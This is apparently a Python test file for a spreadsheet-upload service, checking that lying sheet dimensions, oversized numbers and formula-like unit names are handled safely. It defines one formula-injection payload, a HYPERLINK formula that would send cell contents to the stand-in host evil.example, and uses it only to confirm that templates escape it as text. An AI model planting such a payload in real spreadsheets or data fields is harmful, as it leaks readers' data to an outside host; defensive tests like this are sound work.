"""Workbooks that lie or carry what a spreadsheet should not: every row is counted from the sheet's content, a huge
number is a row conflict, and the template never writes a formula whatever the names it carries."""

import io
import re
import zipfile

import httpx
import openpyxl
from sqlalchemy.ext.asyncio import AsyncSession

from app.domain.workbook import XLSX
from tests.api.helpers import API, HUANGDAO, RATE, STOCK, assert_problem, counts, post
from tests.api.test_clerk_hostile import plain_book, repack
from tests.conftest import Keys

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?"&A2,"点击核对")'


async def test_rows_past_an_understated_dimension_are_all_counted(client: httpx.AsyncClient, keys: Keys) -> None:
    good = plain_book(5)
    with zipfile.ZipFile(io.BytesIO(good)) as z:
        sheet = z.read("xl/worksheets/sheet1.xml").decode()
    assert '<dimension ref="A1:E6" />' in sheet
    lying = repack(good, replace={"xl/worksheets/sheet1.xml": sheet.replace("A1:E6", "A1:G2").encode()})
    r = await post(client, keys.huangdao, lying, content_type=XLSX)
    assert r.status_code == 200, r.text
    got = r.json()["counts"]
    assert got == {"created": 5, "updated": 0, "unchanged": 0, "rejected": 0}, got


async def test_a_cell_of_400_nines_is_a_bad_number_not_a_500(
    client: httpx.AsyncClient, keys: Keys, session: AsyncSession
) -> None:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    sheet.append(["indicator", "unit", "period", "value"])
    sheet.append([STOCK, HUANGDAO, "2020", 3])
    sheet.append([STOCK, HUANGDAO, "2021", 3])
    out = io.BytesIO()
    book.save(out)
    with zipfile.ZipFile(io.BytesIO(out.getvalue())) as z:
        xml = z.read("xl/worksheets/sheet1.xml").decode()
    huge = re.sub(r'(<c r="D3"[^>]*>)<v>3</v>', lambda m: m.group(1) + "<v>" + "9" * 400 + "</v>", xml)
    assert huge != xml
    before = await counts(session)
    body = repack(out.getvalue(), replace={"xl/worksheets/sheet1.xml": huge.encode()})
    r = await post(client, keys.huangdao, body, content_type=XLSX)
    assert r.status_code == 200, r.text
    doc = r.json()
    assert doc["counts"] == {"created": 1, "updated": 0, "unchanged": 0, "rejected": 1}, doc
    assert [(c["row"], c["code"]) for c in doc["conflicts"]] == [(3, "bad_number")]
    # In JSON such a number is not even valid JSON (400); as text it is a bad number like in a cell.
    as_text = {"values": [{"indicator": STOCK, "unit": HUANGDAO, "period": "2022", "value": "9" * 400}]}
    json_doc = assert_problem(await post(client, keys.huangdao, as_text), 422)
    assert [c["code"] for c in json_doc["conflicts"]] == ["bad_number"]
    assert (await counts(session))["measurements"] == before["measurements"] + 1


def _xml_parts(content: bytes) -> dict[str, str]:
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        return {n: z.read(n).decode() for n in z.namelist() if n.endswith(".xml")}


async def test_the_template_writes_a_formula_like_unit_name_as_text(client: httpx.AsyncClient, keys: Keys) -> None:
    made = await client.post(f"{API}/units", json={"code": "370299", "name": HOSTILE_NAME, "parent": "370200",
                                                   "level": "district"}, headers=keys.auth(keys.admin))
    assert made.status_code == 201, made.text
    r = await client.get(f"{API}/templates", params={"unit": "370299", "period": "2024"},
                         headers=keys.auth(keys.admin))
    assert r.status_code == 200, r.text
    parts = _xml_parts(r.content)
    formulas = {name: re.findall(r"<f[ >].*?</f>", xml) for name, xml in parts.items()}
    assert not any(formulas.values()), formulas
    everything = "".join(parts.values())
    assert "HYPERLINK" in everything  # the name is there, as text
    book = openpyxl.load_workbook(io.BytesIO(r.content))
    fill, guide = book["填报"], book["说明"]
    assert fill["D2"].data_type == "s" and fill["D2"].value == "'" + HOSTILE_NAME
    assert guide["A1"].data_type == "s" and str(guide["A1"].value).startswith("'=HYPERLINK")
    # Filled in and sent back, the neutralised name still names the unit.
    row = next(r for r in range(2, fill.max_row + 1) if fill.cell(r, 1).value == RATE)
    fill.cell(row, 7).value, fill.cell(row, 8).value = 90, 100
    out = io.BytesIO()
    book.save(out)
    back = await post(client, keys.admin, out.getvalue(), content_type=XLSX)
    assert back.status_code == 200, back.text
    assert back.json()["counts"]["created"] == 1
